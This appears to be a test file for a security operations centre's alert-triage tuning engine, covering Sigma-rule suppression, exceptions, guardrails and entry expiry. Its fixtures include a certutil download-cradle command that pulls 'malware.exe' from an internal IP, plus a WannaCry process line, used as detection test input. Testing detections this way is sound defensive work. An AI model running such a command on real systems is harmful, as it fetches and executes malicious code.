import { describe, expect, it } from 'vitest';
import type { Alert, Enrichment, Entity, Fact, Triage } from '@soc/contracts';
import type { DeliveryInfo } from '@soc/bus';
import { createEvent, AlertEnrichedV1 } from '@soc/contracts';
import { manualClock } from '@soc/runtime';
import { TUNABLE_BEHAVIOURS, type TriageTuning, type TuningEntry, TuningEntry as TuningEntrySchema, tuningHashOf } from '@soc/triage-tuning';
import type { BehaviourKind } from '../src/behaviour.ts';
import { loadTriageKnowledge, triageAlert } from '../src/engine.ts';
import { makeTriageHandler } from '../src/handler.ts';
import { triageTuned } from '../src/tuning.ts';
import { loadWeights } from '../src/weights.ts';

const weights = loadWeights();
const knowledge = loadTriageKnowledge();
const noFacts: Enrichment = { facts: [], missing: [] };
const at = new Date('2026-11-23T10:00:00.000Z');
const base = (n: string): string => n.split(/[\\/]/).pop() ?? n;

/** Rule ids as the bundled SigmaHQ corpus has them. */
const CERTUTIL_DOWNLOAD = '19b08b1c-861d-4e75-a1ef-ea0c1baf202b';
const WANNACRY = '41d40bff-377a-43e2-8e1b-2e543069e079';

function alertOf(entities: Entity[], severity: Alert['severity'] = 'low', rule = { id: '92057', name: 'Sysmon - Event 1' }): Alert {
  return {
    schemaVersion: 1,
    alertId: 'alt-tuning',
    tenantId: 'contoso',
    source: { name: 'wazuh', product: 'Wazuh', vendorAlertId: 'v-1' },
    title: 'Sysmon - Event 1: Process creation',
    description: '',
    severity,
    status: 'new',
    detectedAt: '2026-11-23T09:59:00.000Z',
    attack: [],
    entities,
    labels: [],
    rule,
  };
}

function processes(image: string, commandLine: string, parentImage: string): Entity[] {
  return [
    { id: `process:${image}`, type: 'process', value: image, name: base(image), origin: 'source', commandLine, parentName: base(parentImage) },
    { id: `process:${parentImage}`, type: 'process', value: parentImage, name: base(parentImage), origin: 'source', role: 'related' },
  ];
}

const certutil = (parent = 'C:\\Windows\\System32\\cmd.exe'): Entity[] =>
  processes('C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -f http://10.0.1.14/malware.exe malware.exe', parent);
const wannacry = (): Entity[] => processes('C:\\ProgramData\\tasksche.exe', 'tasksche.exe /i', 'C:\\Windows\\System32\\cmd.exe');

const common = { reason: 'corp backup tool downloads its own updates (CHG-1042)', author: 'secops-lead' };
function tuningOf(entries: unknown[], version = 1): TriageTuning {
  const parsed: TuningEntry[] = entries.map((e) => TuningEntrySchema.parse({ ...common, ...(e as object) }));
  return { tenantId: 'contoso', version, sha256: tuningHashOf(parsed), previousSha256: null, changedBy: 'root', changedAt: '2026-11-22T00:00:00.000Z', entries: parsed };
}

const names = (t: Triage): string[] => t.risk.factors.map((f) => f.name);
const tunedOut = (t: Triage) => t.risk.factors.find((f) => f.name === 'tuned-out');
const sigmaIds = (t: Triage): string => t.risk.factors.filter((f) => f.name.startsWith('sigma-')).map((f) => f.evidence).join('\n');

describe('per-tenant triage tuning', () => {
  it('a sigma-rule entry takes the rule out of the score and names it in a 0-point tuned-out factor; the result records the version', () => {
    const alert = alertOf(certutil());
    const before = triageAlert(alert, noFacts, weights, knowledge);
    expect(sigmaIds(before)).toContain(CERTUTIL_DOWNLOAD);
    const after = triageTuned(alert, noFacts, weights, knowledge, tuningOf([{ id: 'certutil-off', kind: 'sigma-rule', sigmaRuleId: CERTUTIL_DOWNLOAD.toUpperCase() }], 3), at);
    expect(sigmaIds(after)).not.toContain(CERTUTIL_DOWNLOAD);
    expect(after.risk.score).toBeLessThan(before.risk.score);
    expect(tunedOut(after)).toMatchObject({ points: 0 });
    expect(tunedOut(after)?.evidence).toMatch(/Tenant tuning v3 .*hidden \(not scored\): Sigma .*19b08b1c.* by entry "certutil-off" \(sigma-rule: corp backup tool/);
    expect(after.engine.version).toBe(`${before.engine.version}+tuning.3`);
    expect(after.risk.factors.reduce((n, f) => n + f.points, 0)).toBe(after.risk.score);
  });

  it('a field-value exception hides a behaviour only when every process carrying the field matches the value', () => {
    const entry = { id: 'corp-backup', kind: 'exception', behaviour: 'download-cradle', field: 'ParentImage', match: 'endswith', value: '\\Tools\\corp-backup.exe' };
    const excepted = alertOf(certutil('C:\\Tools\\corp-backup.exe'));
    const before = triageAlert(excepted, noFacts, weights, knowledge);
    expect(names(before)).toContain('behaviour-download-cradle');
    const after = triageTuned(excepted, noFacts, weights, knowledge, tuningOf([entry]), at);
    expect(names(after)).not.toContain('behaviour-download-cradle');
    expect(after.risk.score).toBeLessThan(before.risk.score);
    expect(tunedOut(after)?.evidence).toMatch(/behaviour download-cradle by entry "corp-backup" \(exception ParentImage endswith "\\Tools\\corp-backup\.exe"/);
    // The same download from another parent is not the backup tool: the behaviour counts, nothing is listed.
    const other = alertOf(certutil());
    const otherTuned = triageTuned(other, noFacts, weights, knowledge, tuningOf([entry]), at);
    expect(names(otherTuned)).toContain('behaviour-download-cradle');
    expect(otherTuned.risk.score).toBe(triageAlert(other, noFacts, weights, knowledge).risk.score);
    expect(tunedOut(otherTuned)).toBeUndefined();
  });

  it('a field-value exception on a Sigma rule applies to the alert whose events show the value', () => {
    const entry = { id: 'certutil-from-backup', kind: 'exception', sigmaRuleId: CERTUTIL_DOWNLOAD, field: 'ParentImage', match: 'equals', value: 'c:\\tools\\CORP-BACKUP.exe' };
    const after = triageTuned(alertOf(certutil('C:\\Tools\\corp-backup.exe')), noFacts, weights, knowledge, tuningOf([entry]), at);
    expect(sigmaIds(after)).not.toContain(CERTUTIL_DOWNLOAD);
    expect(tunedOut(after)?.evidence).toContain('certutil-from-backup');
    expect(sigmaIds(triageTuned(alertOf(certutil()), noFacts, weights, knowledge, tuningOf([entry]), at))).toContain(CERTUTIL_DOWNLOAD);
  });

  it('a rule-influence entry removes the rule\'s analyst history, which had pushed the alert down', () => {
    const noisy: Fact[] = [{ id: 'rule-history:wazuh:92057', kind: 'rule-history', source: 'soc-history', observedAt: '2026-11-23T09:00:00.000Z', statement: 'fired 50 times', attributes: { priorAlertCount: 50, truePositives: 0, benignPositives: 0, falsePositives: 50 } }];
    const alert = alertOf([{ id: 'host:ws-7', type: 'host', value: 'ws-7', origin: 'source' }]);
    const enrichment = { facts: noisy, missing: [] };
    const before = triageAlert(alert, enrichment, weights, knowledge);
    expect(names(before)).toEqual(expect.arrayContaining(['noisy-rule', 'analyst-history']));
    const after = triageTuned(alert, enrichment, weights, knowledge, tuningOf([{ id: 'no-prior-92057', kind: 'rule-influence', source: 'Wazuh', ruleId: '92057' }]), at);
    expect(names(after)).not.toContain('noisy-rule');
    expect(names(after)).not.toContain('analyst-history');
    expect(after.risk.score).toBeGreaterThan(before.risk.score);
    expect(tunedOut(after)?.evidence).toMatch(/the analysts' history of rule wazuh\/92057 by entry "no-prior-92057"/);
    // Another rule of the same source keeps its history.
    const otherRule = alertOf(alert.entities, 'low', { id: '92058', name: 'other' });
    expect(names(triageTuned(otherRule, enrichment, weights, knowledge, tuningOf([{ id: 'no-prior-92057', kind: 'rule-influence', source: 'wazuh', ruleId: '92057' }]), at))).toContain('noisy-rule');
  });

  it('guardrail: a critical Sigma hit is never tuned out; the factor says the entry did not apply', () => {
    const alert = alertOf(wannacry());
    const before = triageAlert(alert, noFacts, weights, knowledge);
    expect(names(before)).toContain('sigma-critical');
    const after = triageTuned(alert, noFacts, weights, knowledge, tuningOf([{ id: 'wannacry-off', kind: 'sigma-rule', sigmaRuleId: WANNACRY }]), at);
    expect(names(after)).toContain('sigma-critical');
    expect(after.risk.score).toBe(before.risk.score);
    expect(after.verdict).toEqual(before.verdict);
    expect(tunedOut(after)?.evidence).toMatch(/did not apply: entry "wannacry-off" .* a critical Sigma hit is never tuned out/);
    expect(tunedOut(after)?.evidence).not.toMatch(/hidden/);
  });

  it('guardrail: no entry applies to an alert where threat intel found a source-named entity malicious', () => {
    const entities = certutil();
    const intel: Fact = { id: 'ti:1', kind: 'threat-intel', source: 'misp', entityId: entities[0]!.id, observedAt: '2026-11-23T09:00:00.000Z', statement: 'certutil hash known bad', attributes: { verdict: 'malicious' } };
    const enrichment = { facts: [intel], missing: [] };
    const alert = alertOf(entities);
    const before = triageAlert(alert, enrichment, weights, knowledge);
    const after = triageTuned(alert, enrichment, weights, knowledge, tuningOf([{ id: 'certutil-off', kind: 'sigma-rule', sigmaRuleId: CERTUTIL_DOWNLOAD }]), at);
    expect(sigmaIds(after)).toContain(CERTUTIL_DOWNLOAD);
    expect(after.risk.score).toBe(before.risk.score);
    expect(tunedOut(after)?.evidence).toMatch(/did not apply: entry "certutil-off" .*threat intel found process:.*certutil\.exe malicious/);
  });

  it('an expired entry no longer applies (by the event\'s time), while the result still records the version', () => {
    const alert = alertOf(certutil());
    const tuning = tuningOf([{ id: 'certutil-off', kind: 'sigma-rule', sigmaRuleId: CERTUTIL_DOWNLOAD, expiresAt: '2026-11-23T09:30:00.000Z' }], 2);
    const before = triageAlert(alert, noFacts, weights, knowledge);
    expect(sigmaIds(triageTuned(alert, noFacts, weights, knowledge, tuning, new Date('2026-11-23T09:00:00.000Z')))).not.toContain(CERTUTIL_DOWNLOAD);
    const later = triageTuned(alert, noFacts, weights, knowledge, tuning, at);
    expect(later.risk).toEqual(before.risk);
    expect(later.engine.version).toMatch(/\+tuning\.2$/);
  });

  it('the handler reads the tenant\'s tuning through its port and applies it at the event\'s time', async () => {
    const tuning = tuningOf([{ id: 'certutil-off', kind: 'sigma-rule', sigmaRuleId: CERTUTIL_DOWNLOAD }], 5);
    const asked: string[] = [];
    const handle = makeTriageHandler({ weights, knowledge, clock: manualClock('2026-11-23T10:00:01Z'), tuning: { current: async (tenantId) => (asked.push(tenantId), tuning) } });
    const event = createEvent(AlertEnrichedV1, { alert: alertOf(certutil()), enrichment: noFacts }, { id: 'evt-1', source: '/soc/enrichment', time: at, correlationid: 'corr-1', tenantid: 'contoso' });
    const delivery: DeliveryInfo = { subscription: 'triage', deliveryCount: 1, signal: new AbortController().signal };
    const { emit } = await handle(event, delivery);
    const triage = (emit[0]!.data as { triage: Triage }).triage;
    expect(asked).toEqual(['contoso']);
    expect(triage.engine.version).toMatch(/\+tuning\.5$/);
    expect(names(triage)).toContain('tuned-out');
  });

  it('knows every behaviour kind triage names, so an exception can name any of them', () => {
    const kinds: Record<BehaviourKind, true> = {
      'encoded-command': true, 'download-cradle': true, 'lolbin-network': true, 'office-or-browser-child': true, 'credential-dumping': true,
      'service-or-wmi-child': true, 'user-writable-path': true, 'script-host-staging': true, persistence: true, 'discovery-burst': true,
    };
    expect([...TUNABLE_BEHAVIOURS].sort()).toEqual(Object.keys(kinds).sort());
  });
});
